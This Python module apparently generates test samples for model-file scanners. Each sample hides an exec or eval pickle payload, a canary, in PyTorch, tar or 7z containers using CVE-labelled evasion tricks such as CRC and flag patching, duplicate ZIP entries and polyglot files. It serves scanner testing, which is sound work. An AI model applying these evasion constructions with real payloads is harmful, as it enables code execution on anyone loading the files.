"""Samples that hide a pickle payload inside a container as loaders read it: PyTorch zip and
legacy formats, ZIP parser differentials, 7z, NumPy and joblib files."""

from __future__ import annotations

import io
import pickle
import tarfile
import tempfile
import warnings
import zipfile
from pathlib import Path

import _zip
from _pk import Reduce, body, glob, proto
from registry import Canary, sample

warnings.filterwarnings("ignore")


def _payload(c: Canary) -> Reduce:
    return Reduce(exec, c.py)


def _torch_bytes(obj: object, stem: str = "archive") -> bytes:
    import torch

    if stem == "archive":
        buf = io.BytesIO()
        torch.save(obj, buf)
        return buf.getvalue()
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp, f"{stem}.pt")
        torch.save(obj, path)  # the archive's top folder is named after the file
        return path.read_bytes()


def _state(c: Canary) -> dict[str, object]:
    import torch

    return {"weight": torch.zeros(2, 2), "bias": _payload(c)}


def _torch(sid: str, technique: str, **kw: str):  # type: ignore[no-untyped-def]
    return sample(sid, technique, loader="torch", **kw)


@_torch("torch-zip-reduce", "pytorch-zip-pickle", name="pytorch_model.bin")
def _plain(out: Path, c: Canary) -> None:
    out.write_bytes(_torch_bytes(_state(c)))


@_torch("torch-zip-no-extension", "cve-2025-10155-extension", name="tensor00017_000")
def _noext(out: Path, c: Canary) -> None:
    out.write_bytes(_torch_bytes(_state(c)))


@_torch("torch-zip-odd-dir", "pytorch-zip-pickle", name="checkpoint.ckpt")
def _odd_dir(out: Path, c: Canary) -> None:
    out.write_bytes(_torch_bytes(_state(c), stem="last-epoch"))


@_torch("torch-zip-bad-crc", "cve-2025-10156-crc", name="model.pt")
def _crc(out: Path, c: Canary) -> None:
    data = _torch_bytes(_state(c))
    out.write_bytes(_zip.patch(data, "archive/data.pkl", crc_xor=0x5A5A5A5A))


for _bit in (0x1, 0x20, 0x40):

    def _flag(out: Path, c: Canary, bit: int = _bit) -> None:
        data = _torch_bytes(_state(c))
        out.write_bytes(_zip.patch(data, "archive/data.pkl", flag_or=bit))

    _torch(f"torch-zip-flag-0x{_bit:02x}", "cve-2025-1945-flag-bits", name="model.pt")(_flag)


@_torch("torch-zip-local-name-mismatch", "cve-2025-1944-name-mismatch", name="model.pt")
def _local_name(out: Path, c: Canary) -> None:
    data = _torch_bytes(_state(c))
    out.write_bytes(_zip.patch(data, "archive/data.pkl", local_name="archive/datap.kl"))


@_torch("torch-zip-deflated", "zip-parser-differential", name="model.pt")
def _deflated(out: Path, c: Canary) -> None:
    out.write_bytes(_zip.rewrite(_torch_bytes(_state(c)), compression=zipfile.ZIP_DEFLATED))


@_torch("torch-zip-duplicate-first", "zip-parser-differential", name="model.pt")
def _dup_first(out: Path, c: Canary) -> None:
    bad = pickle.dumps({"weight": [0.0], "bias": _payload(c)}, protocol=2)
    good = _torch_bytes({"weight": [0.0]})
    out.write_bytes(_zip.rewrite(good, first={"archive/data.pkl": bad}))


@_torch("torch-zip-duplicate-last", "zip-parser-differential", name="model.pt")
def _dup_last(out: Path, c: Canary) -> None:
    bad = pickle.dumps({"weight": [0.0], "bias": _payload(c)}, protocol=2)
    good = _torch_bytes({"weight": [0.0]})
    out.write_bytes(_zip.rewrite(good, extra={"archive/data.pkl": bad}))


@_torch("torch-pickle-prefixed-zip", "pytorch-polyglot", name="model.pt")
def _polyglot(out: Path, c: Canary) -> None:
    # not a zip for torch.load (no PK magic first): read as the legacy format, whose
    # first pickle runs; zip readers that search from the end see a clean archive
    head = pickle.dumps(_payload(c), protocol=2)
    out.write_bytes(head + _torch_bytes({"weight": [0.0]}))


@_torch("torch-legacy-magic-pickle", "picklescan-legacy-magic", name="model.pt")
def _legacy_magic(out: Path, c: Canary) -> None:
    magic = proto(2) + glob("builtins", "eval") + body(c.py_expr + " or 0x1950A86A20F9469CFC6C", 2)
    magic += pickle.TUPLE1 + pickle.REDUCE + pickle.STOP
    out.write_bytes(magic + b"".join(pickle.dumps(x, protocol=2) for x in (1001, {}, [], None)))


@_torch("torch-legacy-sysinfo-pickle", "pytorch-legacy-streams", name="model.pt")
def _legacy_sysinfo(out: Path, c: Canary) -> None:
    streams = [0x1950A86A20F9469CFC6C, 1001]
    data = b"".join(pickle.dumps(x, protocol=2) for x in streams)
    data += pickle.dumps(_payload(c), protocol=2)
    out.write_bytes(data + pickle.dumps({}, protocol=2) + pickle.dumps([], protocol=2))


@_torch("torch-legacy-tar-storages", "pytorch-legacy-tar", name="model.tar")
def _legacy_tar(out: Path, c: Canary) -> None:
    with tarfile.open(out, "w", format=tarfile.PAX_FORMAT) as tar:
        for name, obj in (("storages", _payload(c)), ("tensors", 0), ("pickle", {})):
            raw = pickle.dumps(obj, protocol=2)
            info = tarfile.TarInfo(name)
            info.size = len(raw)
            tar.addfile(info, io.BytesIO(raw))


@sample("plain-pickle-as-pt", "cve-2025-10155-extension", loader="torch", name="pytorch_model.pt")
def _pickle_pt(out: Path, c: Canary) -> None:
    out.write_bytes(pickle.dumps(_payload(c), protocol=2))


@sample("sevenzip-torch", "nullifai-7z", loader="sevenzip_pickle", name="model.7z")
def _sevenzip(out: Path, c: Canary) -> None:
    import py7zr

    with py7zr.SevenZipFile(out, "w") as z:
        z.writestr(_broken(c), "archive/data.pkl")


def _broken(c: Canary) -> bytes:
    return (
        proto(2)
        + glob("builtins", "exec")
        + body(c.py, 2)
        + pickle.TUPLE1
        + pickle.REDUCE
        + b"\x00junk"
    )
